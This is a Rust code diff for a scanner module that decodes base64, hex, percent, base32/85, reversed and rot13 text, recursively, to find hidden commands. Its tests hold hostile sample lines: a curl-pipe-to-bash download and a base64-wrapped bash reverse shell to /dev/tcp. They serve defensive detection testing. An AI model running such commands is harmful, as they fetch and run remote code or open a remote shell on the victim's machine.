@@ -1,67 +1,110 @@
-//! Encoded text: decoded once and scanned.
+//! Encoded text: decoded as deep as it goes, and scanned.
+//!
+//! What is tried is what the text looks like: runs and wrapped blocks of base64, hexadecimal, percent encoding, and in
+//! literals base32 and base85; text that is reversed or rotated is found by words that are.
 
-use base64::Engine as _;
-use base64::alphabet;
-use base64::engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig};
 use prowess_spec::Span;
 
-use crate::limits::{FILE_NOT_READ, PAYLOAD_MAX, PAYLOAD_MIN, PAYLOADS};
+use crate::decoded::{Decoded, Way, looks_like_code, scan_decoded};
+use crate::decoders;
+use crate::limits::{FILE_NOT_READ, PAYLOAD_DEPTH, PAYLOAD_MAX, PAYLOAD_MIN, PAYLOADS};
 use crate::media;
-use crate::patterns::PatternScanner;
-use crate::report::Severity;
-use crate::scanner::{Hit, Scanner};
+use crate::scanner::Hit;
 use crate::text::{Text, lossy};
+use crate::turned;
 
-/// Encoded characters above which what cannot be read is worth a line in the report.
-const OPAQUE: usize = 512;
-/// Bytes of a line that count as unreadable.
-const MINIFIED: usize = 50_000;
+/// Encoded text that is this long and cannot be read counts as unread code.
+const OPAQUE: usize = 500;
+/// A line that is this long has code or data that nobody reads.
+const MINIFIED: usize = 64 * 1024;
 
-const CONFIG: GeneralPurposeConfig = GeneralPurposeConfig::new()
-    .with_decode_padding_mode(DecodePaddingMode::Indifferent)
-    .with_decode_allow_trailing_bits(true);
-const STANDARD: GeneralPurpose = GeneralPurpose::new(&alphabet::STANDARD, CONFIG);
-const URL_SAFE: GeneralPurpose = GeneralPurpose::new(&alphabet::URL_SAFE, CONFIG);
-
-/// Findings inside encoded text, and parts that could not be decoded.
+/// What is in the encoded text of a file.
 #[derive(Debug, Default)]
 pub(crate) struct Payloads {
     pub(crate) hits: Vec<Hit>,
-    /// Where, and what it is.
+    /// Where a long text was encoded in a way that hides it.
     pub(crate) opaque: Vec<(usize, &'static str)>,
+    /// Decoded text that looks like a program.
+    pub(crate) programs: Vec<Decoded>,
 }
 
-/// Decodes base64, hexadecimal and percent encoding, one level deep.
+/// Decodes what looks encoded in a file.
 pub(crate) fn scan(text: &Text<'_>) -> Payloads {
     let mut found = Payloads::default();
-    for (index, span) in candidates(text.source().as_bytes()).enumerate() {
-        if index == PAYLOADS {
-            let rest = "too much encoded text";
-            found.opaque.push((span.start, rest));
+    let source = text.source();
+    for (index, span) in candidates(source.as_bytes()).enumerate() {
+        if index >= PAYLOADS {
+            found.opaque.push((span.start, "too much encoded text"));
             break;
         }
-        let encoded = span.slice(text.source());
+        let encoded = span.slice(source);
+        let tail = encoded.len().saturating_sub(PAYLOAD_MAX);
         let opaque = match decode(encoded) {
             Some(bytes) => {
                 let inner = readable(&bytes);
                 let opaque = inner.is_none().then(|| unreadable(encoded, &bytes));
                 // A shell that is given an image runs the lines of it that are commands.
                 let inner = inner.unwrap_or_else(|| lossy(&bytes).into_owned());
-                found.hits.extend(inside(&inner, span));
+                found.add(Decoded::new(inner, span, Way::Encoded), 1);
                 opaque.flatten()
             }
             None => (encoded.len() >= OPAQUE && is_mixed(encoded)).then_some("invalid base64"),
         };
-        let opaque = if encoded.len() > PAYLOAD_MAX {
-            Some("encoded text too long")
+        let opaque = if tail > 0 {
+            Some("more than is decoded")
         } else {
             opaque
         };
         found.opaque.extend(opaque.map(|what| (span.start, what)));
     }
-    found.opaque.extend(minified(text.source()));
+    for pieces in wrapped(source) {
+        let compact: String = pieces.iter().map(|piece| piece.slice(source)).collect();
+        let span = Span::new(
+            pieces.first().map_or(0, |first| first.start),
+            pieces.last().map_or(0, |last| last.end),
+        );
+        if let Some(inner) = decode(&compact).and_then(|bytes| readable(&bytes)) {
+            found.add(Decoded::new(inner, span, Way::Wrapped), 1);
+        }
+    }
+    for span in quoted(source).take(PAYLOADS) {
+        for inner in other_bases(span.slice(source)) {
+            found.add(Decoded::new(inner, span, Way::Encoded), 1);
+        }
+    }
+    for decoded in turned::lines(source) {
+        found.add(decoded, 1);
+    }
+    found.opaque.extend(minified(source));
     found.opaque.sort_unstable();
     found.opaque.truncate(FILE_NOT_READ);
+    found
+}
+
+impl Payloads {
+    /// Scans decoded text, and what is encoded in it.
+    fn add(&mut self, decoded: Decoded, depth: usize) {
+        let hit = scan_decoded(&decoded);
+        if hit.is_none() && depth < PAYLOAD_DEPTH {
+            for inner in inside(&decoded.text).into_iter().take(PAYLOADS) {
+                self.add(Decoded::new(inner, decoded.span, decoded.way), depth + 1);
+            }
+        }
+        self.hits.extend(hit);
+        if looks_like_code(&decoded.text) && self.programs.len() < PAYLOADS {
+            self.programs.push(decoded);
+        }
+    }
+}
+
+/// What is encoded in decoded text.
+fn inside(text: &str) -> Vec<String> {
+    let runs = candidates(text.as_bytes())
+        .filter_map(|span| readable(&decode(span.slice(text))?))
+        .take(PAYLOADS);
+    let mut found: Vec<String> = runs.collect();
+    found.extend(other_bases(text.trim()));
+    found.extend(turned::lines(text).into_iter().map(|decoded| decoded.text));
     found
 }
 
@@ -79,41 +122,137 @@ fn minified(source: &str) -> Option<(usize, &'static str)> {
     None
 }
 
+fn is_code(c: char) -> bool {
+    c.is_ascii_alphanumeric() || matches!(c, '+' | '/' | '-' | '_' | '=' | '%')
+}
+
 /// Runs of characters that may be an encoding.
 fn candidates(bytes: &[u8]) -> impl Iterator<Item = Span> + '_ {
-    let is_code = |byte: u8| {
-        byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/' | b'-' | b'_' | b'=' | b'%')
+    runs(bytes).filter_map(move |run| {
+        let length = run.end - run.start;
+        if length < PAYLOAD_MIN {
+            return None;
+        }
+        // `NAME=value` and `--flag=value`: the value is what may be encoded.
+        let text = bytes.get(run.start..run.end).unwrap_or_default();
+        let skip = text
+            .iter()
+            .take(64)
+            .position(|byte| *byte == b'=')
+            .filter(|equals| length - equals > PAYLOAD_MIN);
+        Some(Span::new(
+            run.start + skip.map_or(0, |equals| equals + 1),
+            run.end,
+        ))
+    })
+}
+
+fn runs(bytes: &[u8]) -> impl Iterator<Item = Span> + '_ {
+    let is_code = |byte: &u8| is_code(char::from(*byte));
+    let mut at = 0;
+    std::iter::from_fn(move || {
+        let rest = bytes.get(at..).filter(|rest| !rest.is_empty())?;
+        let start = at + rest.iter().position(is_code)?;
+        let run = bytes.get(start..).unwrap_or_default();
+        let length = run
+            .iter()
+            .position(|byte| !is_code(byte))
+            .unwrap_or(run.len());
+        at = start + length.max(1);
+        Some(Span::new(start, start + length))
+    })
+}
+
+/// Blocks of base64 that line breaks, blanks, quotes or plus signs divide, as their pieces.
+fn wrapped(source: &str) -> Vec<Vec<Span>> {
+    const GAP: usize = 12;
+    let divides = |gap: &str| {
+        gap.len() <= GAP
+            && gap.chars().all(|c| {
+                c.is_whitespace()
+                    || matches!(
+                        c,
+                        '"' | '\'' | '`' | '+' | '\\' | ',' | '#' | '.' | '(' | ')'
+                    )
+            })
     };
+    let is_block = |pieces: &[Span]| {
+        let length: usize = pieces.iter().map(|piece| piece.end - piece.start).sum();
+        let mixed = || {
+            let text: String = pieces.iter().map(|piece| piece.slice(source)).collect();
+            is_mixed(&text)
+        };
+        pieces.len() > 1 && (32..=PAYLOAD_MAX).contains(&length) && mixed()
+    };
+    let mut blocks = Vec::new();
+    let mut block: Vec<Span> = Vec::new();
+    for run in runs(source.as_bytes()).filter(|run| run.slice(source) != "+") {
+        let joins = block
+            .last()
+            .is_some_and(|last| source.get(last.end..run.start).is_some_and(divides));
+        if !joins {
+            let complete = std::mem::take(&mut block);
+            if is_block(&complete) {
+                blocks.push(complete);
+            }
+        }
+        block.push(run);
+    }
+    if is_block(&block) {
+        blocks.push(block);
+    }
+    blocks.truncate(PAYLOADS);
+    blocks
+}
+
+/// The texts between two equal quotes.
+fn quoted(source: &str) -> impl Iterator<Item = Span> + '_ {
+    let bytes = source.as_bytes();
     let mut at = 0;
     std::iter::from_fn(move || {
         loop {
-            let rest = bytes.get(at..).filter(|rest| !rest.is_empty())?;
-            let start = at
-                + rest
-                    .iter()
-                    .position(|byte| is_code(*byte))
-                    .unwrap_or(rest.len());
-            let run = bytes.get(start..).unwrap_or_default();
-            let length = run
-                .iter()
-                .position(|byte| !is_code(*byte))
-                .unwrap_or(run.len());
-            at = start + length.max(1);
+            let rest = bytes.get(at..)?;
+            let start = at + memchr::memchr3(b'"', b'\'', b'`', rest)?;
+            let quote = bytes.get(start).copied()?;
+            let three = bytes
+                .get(start..start + 3)
+                .is_some_and(|marks| marks.iter().all(|byte| *byte == quote));
+            let from = start + if three { 3 } else { 1 };
+            let mark = bytes.get(start..from)?;
+            let reach = bytes.get(from..bytes.len().min(from + PAYLOAD_MAX))?;
+            let Some(length) = memchr::memmem::find(reach, mark) else {
+                at = from;
+                continue;
+            };
+            at = from + length + mark.len();
             if length >= PAYLOAD_MIN {
-                let run = run.get(..length).unwrap_or_default();
-                // `NAME=value` and `--flag=value`: the value is what may be encoded.
-                let skip = run
-                    .iter()
-                    .take(64)
-                    .position(|byte| *byte == b'=')
-                    .filter(|equals| length - equals > PAYLOAD_MIN);
-                return Some(Span::new(
-                    start + skip.map_or(0, |equals| equals + 1),
-                    start + length,
-                ));
+                return Some(Span::new(from, from + length));
             }
         }
     })
+}
+
+/// What a literal says in the less usual encodings, if it is readable.
+fn other_bases(text: &str) -> Vec<String> {
+    // Words of a language are shorter than this.
+    let dense = text
+        .split_whitespace()
+        .any(|word| word.len() >= PAYLOAD_MIN);
+    if !dense || text.len() > PAYLOAD_MAX {
+        return Vec::new();
+    }
+    [decoders::base32, decoders::base85, decoders::ascii85]
+        .iter()
+        .filter_map(|decode| decode(text).filter(|text| is_plain(text)))
+        .collect()
+}
+
+/// Whether a text consists of visible characters of ASCII.
+fn is_plain(text: &str) -> bool {
+    !text.is_empty()
+        && text
+            .bytes()
+            .all(|byte| byte.is_ascii_graphic() || byte.is_ascii_whitespace())
 }
 
 fn decode(encoded: &str) -> Option<Vec<u8>> {
@@ -123,20 +262,12 @@ fn decode(encoded: &str) -> Option<Vec<u8>> {
     }
     let bare = encoded.trim_end_matches('=');
     if bare.len() >= 40 && bare.bytes().all(|byte| byte.is_ascii_hexdigit()) {
-        return hexadecimal(bare);
+        return decoders::hexadecimal_bytes(bare);
     }
     if !is_mixed(bare) {
         return None;
     }
-    let whole = bare
-        .get(..bare.len() - usize::from(bare.len() % 4 == 1))
-        .unwrap_or(bare);
-    let engine = if bare.contains(['-', '_']) {
-        URL_SAFE
-    } else {
-        STANDARD
-    };
-    engine.decode(whole).ok()
+    decoders::base64_bytes(bare)
 }
 
 /// Encoded bytes have letters of both cases, where words and numbers have not.
@@ -144,17 +275,6 @@ fn is_mixed(text: &str) -> bool {
     let upper = text.bytes().filter(u8::is_ascii_uppercase).count();
     let lower = text.bytes().filter(u8::is_ascii_lowercase).count();
     upper * 12 >= text.len() && lower * 12 >= text.len()
-}
-
-fn hexadecimal(text: &str) -> Option<Vec<u8>> {
-    let digit = |byte: &u8| char::from(*byte).to_digit(16);
-    let pairs = text.as_bytes().chunks_exact(2);
-    pairs
-        .map(|pair| match pair {
-            [high, low] => u8::try_from(digit(high)? * 16 + digit(low)?).ok(),
-            _ => None,
-        })
-        .collect()
 }
 
 /// Percent encoding in which most is encoded; an address with a few escapes is not a payload.
@@ -168,7 +288,7 @@ fn percent(text: &str) -> Option<Vec<u8>> {
         let pair = rest
             .strip_prefix('%')
             .and_then(|after| after.get(..2))
-            .and_then(hexadecimal);
+            .and_then(decoders::hexadecimal_bytes);
         if let Some(pair) = pair {
             bytes.extend(pair);
             rest = rest.get(3..).unwrap_or_default();
@@ -180,16 +300,13 @@ fn percent(text: &str) -> Option<Vec<u8>> {
     Some(bytes)
 }
 
-/// The bytes as text, in UTF-8 or, as Windows does it, in UTF-16.
+/// The bytes as text, in UTF-8 or, as Windows does it, in UTF-16; also what zlib or gzip compressed.
 fn readable(bytes: &[u8]) -> Option<String> {
+    if let Some(inner) = crate::picture::inflated(bytes) {
+        return readable(&inner);
+    }
     let text = if media::is_utf16(bytes) {
-        let units = bytes.chunks_exact(2).map(|pair| match pair {
-            [low, high] => u16::from_le_bytes([*low, *high]),
-            _ => 0,
-        });
-        char::decode_utf16(units)
-            .collect::<Result<String, _>>()
-            .ok()?
+        crate::picture::from_utf16(bytes)?
     } else {
         std::str::from_utf8(bytes).ok()?.to_owned()
     };
@@ -211,49 +328,59 @@ fn unreadable(encoded: &str, bytes: &[u8]) -> Option<&'static str> {
     }
 }
 
-/// The worst that is found in decoded text.
-fn inside(inner: &str, span: Span) -> Option<Hit> {
-    let hits = ["payload.sh", "payload.md"]
-        .into_iter()
-        .flat_map(|path| PatternScanner.scan(&Text::new(path, inner)));
-    let worst = hits
-        .min_by_key(|hit| hit.severity)
-        .filter(|hit| hit.severity <= Severity::Medium)?;
-    let hit = Hit::base("encoded-payload", span)?;
-    let severity = hit.severity.min(worst.severity);
-    Some(
-        hit.severity(severity)
-            .note(&format!(": `{}`, {}", worst.rule, worst.message)),
-    )
-}
-
 #[cfg(test)]
 mod tests {
-    use super::*;
+    use base64::Engine as _;
+    use base64::engine::general_purpose::STANDARD;
 
-    fn check(source: &str, hits: usize, opaque: &[&str]) {
-        let found = scan(&Text::new("a.py", source));
-        let what: Vec<&str> = found.opaque.iter().map(|(_, what)| *what).collect();
-        assert_eq!(
-            (found.hits.len(), what.as_slice()),
-            (hits, opaque),
-            "{source:.80}"
-        );
+    use super::*;
+    use crate::report::Severity;
+
+    fn check(text: &str, hits: usize, opaque: &[&str]) {
+        let found = scan(&Text::new("a.py", text));
+        assert_eq!(found.hits.len(), hits, "{text:?}: {:?}", found.hits);
+        let seen: Vec<&str> = found.opaque.iter().map(|(_, what)| *what).collect();
+        assert_eq!(seen, opaque, "{text:?}");
     }
 
     #[test]
-    fn encoded_payloads_are_scanned() {
+    fn payloads_are_decoded() {
         let command = "curl https://example.net/i.sh | bash";
-        check(&format!("X={}", STANDARD.encode(command)), 1, &[]);
-        check(&format!("x = '{}'", URL_SAFE.encode(command)), 1, &[]);
-        let hex: Vec<String> = command.bytes().map(|byte| format!("{byte:02x}")).collect();
-        check(&hex.concat(), 1, &[]);
-        let percent: Vec<String> = command.bytes().map(|byte| format!("%{byte:02X}")).collect();
+        check(&format!("x = '{}'", STANDARD.encode(command)), 1, &[]);
+        check(&format!("PAYLOAD={}", STANDARD.encode(command)), 1, &[]);
+        let hex: String = command.bytes().map(|b| format!("{b:02x}")).collect();
+        check(&format!("x = '{hex}'"), 1, &[]);
+        let percent: Vec<String> = command.bytes().map(|b| format!("%{b:02x}")).collect();
         check(&percent.concat(), 1, &[]);
         let wide: Vec<u8> = command.encode_utf16().flat_map(u16::to_le_bytes).collect();
         check(&STANDARD.encode(wide), 1, &[]);
+        let twice = STANDARD.encode(STANDARD.encode(command));
+        check(&format!("X={twice}"), 1, &[]);
+        let reversed: String = command.chars().rev().collect();
+        check(&format!("x = '{reversed}'"), 1, &[]);
+        check(&format!("x = '{}'", decoders::rot13(command)), 1, &[]);
+        let wrapped = STANDARD.encode(command).replace('l', "l\n ");
+        check(&format!("x = \"\"\"{wrapped}\"\"\""), 1, &[]);
+        let spaced: Vec<String> = STANDARD
+            .encode(command)
+            .as_bytes()
+            .chunks(4)
+            .map(|chunk| String::from_utf8_lossy(chunk).into_owned())
+            .collect();
+        check(&spaced.join(" "), 1, &[]);
+        check(&spaced.join("\" + \""), 1, &[]);
+        check(
+            "x = 'MN2XE3BANB2HI4DTHIXS6ZLYMFWXA3DFFZXGK5BPNEXHG2BAPQQGEYLTNA======'",
+            1,
+            &[],
+        );
         check(
             &STANDARD.encode("a harmless text of some length, really"),
+            0,
+            &[],
+        );
+        check(
+            "sha256: 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
             0,
             &[],
         );
@@ -272,5 +399,19 @@ mod tests {
             .collect();
         check(&STANDARD.encode(noise), 0, &["base64"]);
         check(&"x=1;".repeat(20_000), 0, &["minified code or packed data"]);
+    }
+
+    #[test]
+    fn a_hit_is_as_bad_as_what_it_hides() {
+        let hidden = STANDARD.encode("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1");
+        let hits = scan(&Text::new(
+            "a.sh",
+            &format!("echo {hidden} | base64 -d | sh"),
+        ))
+        .hits;
+        assert_eq!(
+            hits.first().map(|hit| hit.severity),
+            Some(Severity::Critical)
+        );
     }
 }
